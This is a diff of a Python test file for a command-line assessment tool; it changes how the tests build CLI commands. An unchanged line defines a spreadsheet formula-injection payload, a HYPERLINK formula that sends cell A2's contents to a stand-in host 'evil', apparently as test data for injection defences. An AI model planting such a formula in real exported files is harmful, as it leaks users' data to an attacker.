@@ -16,6 +16,7 @@ import pytest
 from packs import UNIT, counts, entries, repack
 
 from assessment.exchange.package_diff import Outcome
+from tests.cli_language import english
 
 ROOT = Path(__file__).resolve().parents[2]
 FORMULA = '=HYPERLINK("http://evil/?x="&A2,"x")'
@@ -96,7 +97,8 @@ def _cli(db_url: str, *args: str, tmp: Path) -> subprocess.CompletedProcess[str]
     import os
 
     env = {**os.environ, "DXSCORE_LOG_DIR": str(tmp / "logs")}
-    return subprocess.run([sys.executable, str(ROOT / "main.py"), "--db", db_url, *args], capture_output=True,
+    command = [sys.executable, str(ROOT / "main.py"), "--db", db_url, *english(args), *args]
+    return subprocess.run(command, capture_output=True,
                           text=True, env=env, cwd=ROOT, timeout=300)
 
 
